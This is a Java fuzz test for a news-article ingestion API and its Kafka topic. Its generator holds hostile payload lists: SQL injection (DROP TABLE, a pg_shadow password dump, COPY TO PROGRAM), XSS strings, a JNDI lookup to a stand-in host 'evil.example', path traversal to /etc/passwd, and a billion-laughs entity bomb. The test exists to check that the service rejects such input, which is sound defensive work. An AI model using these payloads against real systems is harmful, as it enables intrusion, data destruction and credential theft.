package io.newsfold.ingest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import io.newsfold.contracts.ApiKeys;
import io.newsfold.contracts.EventJson;
import io.newsfold.contracts.Topics;
import io.newsfold.infra.TestInfra;
import io.newsfold.infra.testing.NewsfoldInfraResource;
import io.newsfold.infra.testing.TopicProbe;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.serialization.StringSerializer;
import org.junit.jupiter.api.Test;

/**
 * Throws seeded random, malformed and hostile input at every write route and at the input topic. Every HTTP answer
 * must be a clear 4xx, or a 2xx where the input is in fact a valid article; every refused record must reach the
 * dead-letter topic with its reason; and no row stored before may change, only valid input may add rows. A few
 * hundred inputs by default; {@code -Dnewsfold.fuzz.inputs=20000} for a long run, {@code -Dnewsfold.fuzz.seed=N}
 * to replay one.
 */
@QuarkusTest
@QuarkusTestResource(NewsfoldInfraResource.class)
class HostileInputFuzzTest {

    private static final int INPUTS = Integer.getInteger("newsfold.fuzz.inputs", 300);
    private static final long SEED = Long.getLong("newsfold.fuzz.seed", 20260302L);
    private static final Duration SLOW = Duration.ofSeconds(10);
    private static final Duration WAIT = Duration.ofSeconds(60);
    /** quarkus.http.limits.max-body-size */
    private static final int MAX_BODY_BYTES = 8 * 1024 * 1024;

    enum Kind {
        VALID, RANDOM_JSON, WRONG_TYPES, HUGE_FIELD, INVALID_UTF8, SQL_INJECTION, SCRIPT_INJECTION, HTML_BOMB,
        BAD_ESCAPES, NDJSON_BATCH, ODD_REQUEST
    }

    /**
     * One input. {@code mustAccept}: a valid article, answered 2xx. {@code refused}: invalid by construction,
     * so it may also go to the input topic, where it must be dead-lettered.
     */
    record Input(Kind kind, String method, String pathAndQuery, String contentType, byte[] body, boolean mustAccept,
            boolean refused) {
    }

    @TestHTTPResource("/")
    URI root;

    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();

    @Test
    void everyHostileInputGetsAClearAnswerAndLeavesStoredDataAlone() throws Exception {
        Map<String, String> before = StoredVersions.digests();
        Hostile hostile = new Hostile(new Random(SEED), UUID.randomUUID().toString().substring(0, 8));
        Map<Kind, Integer> tried = new EnumMap<>(Kind.class);
        Map<Kind, Long> millis = new EnumMap<>(Kind.class);
        Map<Integer, Integer> statuses = new TreeMap<>();
        Set<String> added = new HashSet<>();
        int rateLimitedRetries = 0;
        long started = System.nanoTime();

        for (int n = 0; n < INPUTS; n++) {
            Input input = hostile.next();
            tried.merge(input.kind(), 1, Integer::sum);
            HttpResponse<String> response;
            long inputStart = System.nanoTime();
            String what = "input " + n + " (" + input.kind() + ", seed " + SEED + ") " + input.method() + " "
                    + input.pathAndQuery() + " " + input.contentType() + " " + preview(input.body());
            while (true) {
                try {
                    response = send(input);
                } catch (IOException e) {
                    // Over the body limit the server answers 413 and closes at once; a client still sending
                    // may see only the close.
                    if (input.body() != null && input.body().length > MAX_BODY_BYTES) {
                        response = null;
                        break;
                    }
                    throw new AssertionError(what + " got no answer", e);
                }
                if (response.statusCode() != 429) {
                    break;
                }
                rateLimitedRetries++;
                Thread.sleep(1000L * Long.parseLong(response.headers().firstValue("Retry-After").orElse("1")));
            }
            millis.merge(input.kind(), (System.nanoTime() - inputStart) / 1_000_000, Long::sum);
            if (response == null) {
                statuses.merge(-413, 1, Integer::sum);
                continue;
            }
            int status = response.statusCode();
            statuses.merge(status, 1, Integer::sum);
            if (status >= 500 || status < 200 || status >= 300 && status < 400) {
                fail(what + " was answered " + status + ": " + preview(response.body()));
            }
            if (input.mustAccept() && status >= 300) {
                fail(what + " is a valid article but was answered " + status + ": " + preview(response.body()));
            }
            if (status >= 400 && !response.body().isEmpty() && response.headers().firstValue("Content-Type")
                    .orElse("").startsWith("application/problem+json")) {
                assertTrue(response.body().contains("\"reason\""), what + ": a problem without a reason");
            }
            if (status == 202) {
                added.add(idAndVersion(EventJson.readInput(response.body(), Map.class)));
            } else if (status == 200 && input.kind() == Kind.NDJSON_BATCH) {
                for (String line : response.body().lines().toList()) {
                    Map<?, ?> result = EventJson.readInput(line, Map.class);
                    if ("accepted".equals(result.get("status"))) {
                        added.add(idAndVersion(result));
                    }
                }
            }
        }
        double httpSeconds = (System.nanoTime() - started) / 1e9;

        Map<Kind, Integer> produced = deadLettersEveryRefusedRecord(hostile, Math.max(20, INPUTS / 5));

        Map<String, String> after = StoredVersions.digests();
        for (var row : before.entrySet()) {
            assertEquals(row.getValue(), after.get(row.getKey()), "stored row " + row.getKey() + " changed");
        }
        Set<String> newRows = new HashSet<>(after.keySet());
        newRows.removeAll(before.keySet());
        assertEquals(added, newRows, "only accepted inputs may add rows");

        System.out.printf("HostileInputFuzzTest: seed %d, %d HTTP inputs in %.1f s by kind %s (ms by kind %s), "
                        + "answers %s (-413: closed while sending a body over the limit), %d retried after 429; "
                        + "%d Kafka records by kind %s, all dead-lettered; %d rows added%n",
                SEED, INPUTS, httpSeconds, tried, millis, statuses, rateLimitedRetries,
                produced.values().stream().mapToInt(Integer::intValue).sum(), produced, added.size());
    }

    /** Produces inputs refused by construction to the input topic; each must reach the DLQ with a reason. */
    private Map<Kind, Integer> deadLettersEveryRefusedRecord(Hostile hostile, int count) throws Exception {
        Map<Kind, Integer> produced = new EnumMap<>(Kind.class);
        Map<String, Kind> keys = new LinkedHashMap<>();
        String bootstrap = TestInfra.get().kafkaBootstrapServers();
        try (var producer = new KafkaProducer<String, byte[]>(Map.of(
                ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, bootstrap,
                ProducerConfig.ACKS_CONFIG, "all",
                ProducerConfig.MAX_REQUEST_SIZE_CONFIG, 4 * 1024 * 1024),
                new StringSerializer(), new ByteArraySerializer())) {
            while (keys.size() < count) {
                Input input = hostile.next();
                if (!input.refused() || input.kind() == Kind.NDJSON_BATCH || input.body().length > 900_000) {
                    continue;
                }
                String key = "fuzz-" + UUID.randomUUID();
                producer.send(new ProducerRecord<>(Topics.ARTICLES_SUBMITTED.name(), key, input.body()))
                        .get(30, TimeUnit.SECONDS);
                keys.put(key, input.kind());
                produced.merge(input.kind(), 1, Integer::sum);
            }
            String tombstone = "fuzz-" + UUID.randomUUID();
            producer.send(new ProducerRecord<>(Topics.ARTICLES_SUBMITTED.name(), tombstone, null))
                    .get(30, TimeUnit.SECONDS);
            keys.put(tombstone, Kind.ODD_REQUEST);
            produced.merge(Kind.ODD_REQUEST, 1, Integer::sum);
        }
        try (var probe = TopicProbe.reading(bootstrap, Topics.ARTICLES_SUBMITTED.deadLetter())) {
            var dead = probe.await(r -> keys.containsKey(r.key()), keys.size(), WAIT.plusMillis(50L * keys.size()));
            for (var record : dead) {
                String reason = TopicProbe.header(record, "dead-letter-reason");
                assertTrue(reason != null && !reason.isBlank(), "no reason for " + keys.get(record.key()));
            }
        }
        return produced;
    }

    private HttpResponse<String> send(Input input) throws Exception {
        var request = HttpRequest.newBuilder(root.resolve(input.pathAndQuery())).timeout(Duration.ofSeconds(60))
                .header(ApiKeys.HEADER, TestKeys.WRITER)
                .method(input.method(), input.body() == null ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofByteArray(input.body()));
        if (input.contentType() != null) {
            request.header("Content-Type", input.contentType());
        }
        long start = System.nanoTime();
        HttpResponse<String> response = http.send(request.build(), HttpResponse.BodyHandlers.ofString());
        Duration took = Duration.ofNanos(System.nanoTime() - start);
        assertTrue(took.compareTo(SLOW) < 0, input.kind() + " took " + took);
        return response;
    }

    private static String idAndVersion(Map<?, ?> result) {
        return result.get("id") + "#" + result.get("version");
    }

    private static String preview(byte[] body) {
        return body == null ? "" : preview(new String(body, 0, Math.min(body.length, 300), StandardCharsets.UTF_8));
    }

    private static String preview(String s) {
        return s.length() <= 300 ? s : s.substring(0, 300) + "…(" + s.length() + ")";
    }

    /** The generator: every choice comes from one seeded Random, so a seed replays a run exactly. */
    static final class Hostile {

        static final String[] SQL = {
            "'; DROP TABLE ingest.article_versions; --", "\" OR 1=1 --", "1; DELETE FROM article_versions",
            "' UNION SELECT usename, passwd FROM pg_shadow --", "Robert'); DROP TABLE students;--",
            "$$; DROP SCHEMA ingest CASCADE; $$", "'; TRUNCATE ingest.flyway_schema_history; --",
            "1' AND pg_sleep(20) IS NULL --", "\\'; COPY article_versions TO PROGRAM 'id'; --"};
        static final String[] SCRIPT = {
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
            "{{constructor.constructor('alert(1)')()}}", "${jndi:ldap://evil.example/a}",
            "<iframe src=javascript:alert(1)>", "';alert(String.fromCharCode(88,83,83))//"};
        static final String[] ODD = {
            "", " ", "\u202Eevil", "\uFEFF", "😀👍🏽", "Ω≈ç√∫", "e\u0301\u0301\u0301", "null", "NaN", "-1",
            "../../etc/passwd", "%00", "\\", "\"", "\t\r\n", "\u2028\u2029", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "مرحبا", "中文字符"};
        static final String[] FIELDS = {"id", "source", "url", "title", "text", "html", "publishedAt"};
        static final byte[][] BAD_UTF8 = {
            {(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xE2, (byte) 0x82}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80}};
        static final String[] ESCAPES = {"\\u0000", "\\ud800", "\\udfff", "\\ud800\\u0041", "\\udc00\\ud800"};

        private final Random random;
        private final String run;
        private int serial;

        Hostile(Random random, String run) {
            this.random = random;
            this.run = run;
        }

        Input next() {
            Kind kind = Kind.values()[random.nextInt(Kind.values().length)];
            return switch (kind) {
                case VALID -> json(kind, validArticle(null), true, false);
                case RANDOM_JSON -> json(kind, randomObject(0), false, false);
                case WRONG_TYPES -> wrongTypes();
                case HUGE_FIELD -> hugeField();
                case INVALID_UTF8 -> invalidUtf8();
                case SQL_INJECTION -> injection(kind, pick(SQL));
                case SCRIPT_INJECTION -> injection(kind, pick(SCRIPT));
                case HTML_BOMB -> htmlBomb();
                case BAD_ESCAPES -> badEscapes();
                case NDJSON_BATCH -> batch();
                case ODD_REQUEST -> oddRequest();
            };
        }

        private Input json(Kind kind, Object value, boolean mustAccept, boolean refused) {
            return new Input(kind, "POST", "v1/articles", "application/json", utf8(EventJson.write(value)),
                    mustAccept, refused);
        }

        /** A valid article; {@code hostile} (when not null) goes into the free-text fields. */
        private Map<String, Object> validArticle(String hostile) {
            Map<String, Object> a = new LinkedHashMap<>();
            a.put("id", "fz-" + run + "-" + (serial++));
            a.put("source", hostile != null && random.nextBoolean() ? hostile : pick("Northwind Wire", "Lakeside",
                    "The Daily " + pick(ODD).strip() + "x"));
            if (random.nextBoolean()) {
                a.put("url", "https://news.example/" + run + "/" + serial + "?q=" + random.nextInt(1000));
            }
            a.put("title", hostile != null && random.nextBoolean() ? hostile : "Title " + text(40));
            a.put("text", "Fuzz article " + serial + " reports on the harbour. " + text(400)
                    + (hostile != null ? " " + hostile : ""));
            if (random.nextBoolean()) {
                a.put("publishedAt", Instant.parse("2020-01-01T00:00:00Z")
                        .plusSeconds(random.nextInt(150_000_000)).toString());
            }
            return a;
        }

        private Input wrongTypes() {
            Map<String, Object> a = validArticle(null);
            String field = pick(FIELDS);
            Object wrong = switch (random.nextInt(5)) {
                case 0 -> Map.of("nested", List.of(1, 2));
                case 1 -> List.of("a", 1, true);
                case 2 -> random.nextDouble() * 1e300;
                case 3 -> random.nextBoolean();
                default -> null;
            };
            a.put(field, wrong);
            return json(Kind.WRONG_TYPES, a, false, wrong instanceof Map || wrong instanceof List);
        }

        private Input hugeField() {
            if (random.nextInt(25) == 0) {
                return new Input(Kind.HUGE_FIELD, "POST", "v1/articles", "application/json",
                        new byte[9 * 1024 * 1024], false, false);
            }
            Map<String, Object> a = validArticle(null);
            String field = pick("id", "source", "title", "text", "url", "byline", "extra");
            int length = field.equals("text") ? 2_000_001 + random.nextInt(1000) : pick(10_000, 300_000);
            a.put(field, (field.equals("url") ? "https://news.example/" : "") + "x".repeat(length));
            boolean refused = Set.of("id", "source", "title", "text", "url").contains(field);
            return json(Kind.HUGE_FIELD, a, false, refused);
        }

        private Input invalidUtf8() {
            Map<String, Object> a = validArticle(null);
            a.put("text", "Before the break. @@BAD@@ After the break.");
            byte[] json = utf8(EventJson.write(a));
            String s = new String(json, StandardCharsets.ISO_8859_1);
            int at = s.indexOf("@@BAD@@");
            var out = new ByteArrayOutputStream();
            out.write(json, 0, at);
            out.writeBytes(BAD_UTF8[random.nextInt(BAD_UTF8.length)]);
            out.write(json, at + 7, json.length - at - 7);
            String charset = pick("", "", "; charset=UTF-8", "; charset=utf8");
            return new Input(Kind.INVALID_UTF8, "POST", "v1/articles", "application/json" + charset,
                    out.toByteArray(), false, true);
        }

        /** Injection into free text is a valid article stored as text; into id or date it is refused. */
        private Input injection(Kind kind, String payload) {
            return switch (random.nextInt(4)) {
                case 0, 1 -> json(kind, validArticle(payload), true, false);
                case 2 -> {
                    Map<String, Object> a = validArticle(null);
                    a.put(pick("id", "publishedAt"), payload + " " + random.nextInt(100));
                    yield json(kind, a, false, true);
                }
                default -> {
                    Map<String, Object> a = validArticle(null);
                    a.put("url", payload.startsWith("<") ? "javascript:alert(1)" : payload);
                    yield json(kind, a, false, false);
                }
            };
        }

        private Input htmlBomb() {
            Map<String, Object> a = validArticle(null);
            a.remove("text");
            String html;
            boolean refused;
            switch (random.nextInt(7)) {
                case 0 -> {
                    int depth = pick(300, 5_000, 100_000);
                    html = "<div>".repeat(depth) + "deep" + "</div>".repeat(depth);
                    refused = true;
                }
                case 1 -> {
                    html = "<html><body>" + "<p>x</p>".repeat(60_000) + "</body></html>";
                    refused = true;
                }
                case 2 -> {
                    StringBuilder dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
                    for (int i = 1; i <= 9; i++) {
                        dtd.append("<!ENTITY lol").append(i).append(" \"")
                                .append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
                    }
                    html = dtd + "]><html><body><p>Laughs &lol9; and more.</p></body></html>";
                    refused = false;
                }
                case 3 -> {
                    html = "<html><body><p>" + "<b><i><a href=x>".repeat(pick(2_000, 15_000)) + "bold</p>";
                    refused = false;
                }
                case 4 -> {
                    html = "<html><body>" + "<table><tr><td>".repeat(1_000) + "cell";
                    refused = true;
                }
                case 5 -> {
                    html = "<html><body><div class=\"" + "share-related ".repeat(50_000) + "\"><p>Text.</p></div>"
                            + "</body></html>";
                    refused = false;
                }
                default -> {
                    html = "<html><body><p>Open comment <!-- " + "--!>".repeat(50_000) + text(100);
                    refused = false;
                }
            }
            a.put(random.nextBoolean() ? "html" : "text", html);
            return json(Kind.HTML_BOMB, a, false, refused);
        }

        private Input badEscapes() {
            String field = random.nextInt(FIELDS.length + 1) < FIELDS.length ? pick(FIELDS) : "extra";
            String escape = ESCAPES[random.nextInt(ESCAPES.length)];
            Map<String, Object> a = validArticle(null);
            a.put(field, field.equals("url") ? "https://news.example/@@ESC@@" : "Sentence with @@ESC@@ inside.");
            String json = EventJson.write(a).replace("@@ESC@@", escape);
            return new Input(Kind.BAD_ESCAPES, "POST", "v1/articles", "application/json", utf8(json), false, true);
        }

        private Input batch() {
            var out = new ByteArrayOutputStream();
            int lines = 1 + random.nextInt(12);
            for (int i = 0; i < lines; i++) {
                Input line = switch (random.nextInt(6)) {
                    case 0 -> json(Kind.VALID, validArticle(null), true, false);
                    case 1 -> injection(Kind.SQL_INJECTION, pick(SQL));
                    case 2 -> invalidUtf8();
                    case 3 -> badEscapes();
                    case 4 -> wrongTypes();
                    default -> json(Kind.RANDOM_JSON, randomObject(0), false, false);
                };
                out.writeBytes(line.body());
                out.write(random.nextInt(10) == 0 ? '\r' : '\n');
                if (random.nextInt(8) == 0) {
                    out.write('\n');
                }
            }
            return new Input(Kind.NDJSON_BATCH, "POST", "v1/articles", pick("application/x-ndjson",
                    "application/x-ndjson; charset=UTF-8"), out.toByteArray(), false, true);
        }

        private Input oddRequest() {
            byte[] junk = new byte[random.nextInt(2_000)];
            random.nextBytes(junk);
            return switch (random.nextInt(9)) {
                case 0 -> new Input(Kind.ODD_REQUEST, "POST", "v1/articles", pick("text/plain", "application/xml",
                        "multipart/form-data; boundary=x", "application/octet-stream", "*/*"), junk, false, false);
                case 1 -> new Input(Kind.ODD_REQUEST, "POST", "v1/articles", pick(
                        "application/json; charset=bogus", "application/json; charset=UTF-16",
                        "application/json; charset=\"", "application/json;;;", "application/x-ndjson; charset=latin1",
                        "application/json; charset=x-user-defined"), junk, false, true);
                case 2 -> new Input(Kind.ODD_REQUEST, pick("PUT", "DELETE", "PATCH", "GET", "HEAD"), "v1/articles",
                        "application/json", junk, false, false);
                case 3 -> new Input(Kind.ODD_REQUEST, "POST", pick("v1/articles/%2e%2e%2fq%2fhealth",
                        "v1/articles?id=%27%20OR%201%3D1", "v1/articles/%00", "v1//articles", "v1/articles;x=y",
                        "v1/articles/" + "a".repeat(3000)), "application/json", junk, false, false);
                case 4 -> new Input(Kind.ODD_REQUEST, "POST", "v1/articles", "application/json",
                        utf8(pick("", "null", "[]", "\"text\"", "1e999999", "{}", "{\"source\":null}", "true")),
                        false, true);
                case 5 -> new Input(Kind.ODD_REQUEST, "POST", "v1/articles", "application/json",
                        utf8("[".repeat(pick(1_001, 100_000)) + "]".repeat(10)), false, true);
                case 6 -> new Input(Kind.ODD_REQUEST, "POST", "v1/articles", "application/json",
                        utf8("{\"a\":".repeat(pick(1_001, 50_000)) + "1" + "}".repeat(3)), false, true);
                case 7 -> new Input(Kind.ODD_REQUEST, "POST", "v1/articles", null, junk, false, false);
                default -> new Input(Kind.ODD_REQUEST, "POST", "v1/articles", "application/json", junk, false, true);
            };
        }

        private Object randomObject(int depth) {
            Map<String, Object> o = new LinkedHashMap<>();
            int fields = random.nextInt(8);
            for (int i = 0; i < fields; i++) {
                String key = random.nextInt(3) == 0 ? text(10) : pick(FIELDS);
                o.put(key, randomValue(depth + 1));
            }
            return o;
        }

        private Object randomValue(int depth) {
            return switch (depth > 4 ? random.nextInt(5) : random.nextInt(7)) {
                case 0 -> text(random.nextInt(300));
                case 1 -> pick(SQL);
                case 2 -> pick(SCRIPT) + pick(ODD);
                case 3 -> random.nextBoolean() ? random.nextLong() : random.nextDouble();
                case 4 -> random.nextBoolean() ? null : random.nextBoolean();
                case 5 -> Arrays.asList(randomValue(depth + 1), randomValue(depth + 1));
                default -> randomObject(depth);
            };
        }

        /** Random text of letters, spaces and any valid code point (no surrogates, no U+FFFD). */
        private String text(int length) {
            StringBuilder s = new StringBuilder();
            while (s.length() < length) {
                int r = random.nextInt(10);
                if (r < 6) {
                    s.append((char) ('a' + random.nextInt(26)));
                } else if (r < 8) {
                    s.append(' ');
                } else if (r < 9) {
                    s.append(pick(ODD));
                } else {
                    int cp = random.nextInt(0x10FFFF);
                    if (cp != 0 && Character.getType(cp) != Character.SURROGATE && cp != 0xFFFD) {
                        s.appendCodePoint(cp);
                    }
                }
            }
            return s.toString();
        }

        @SafeVarargs
        private <T> T pick(T... options) {
            return options[random.nextInt(options.length)];
        }

        private static byte[] utf8(String s) {
            return s.getBytes(StandardCharsets.UTF_8);
        }
    }
}
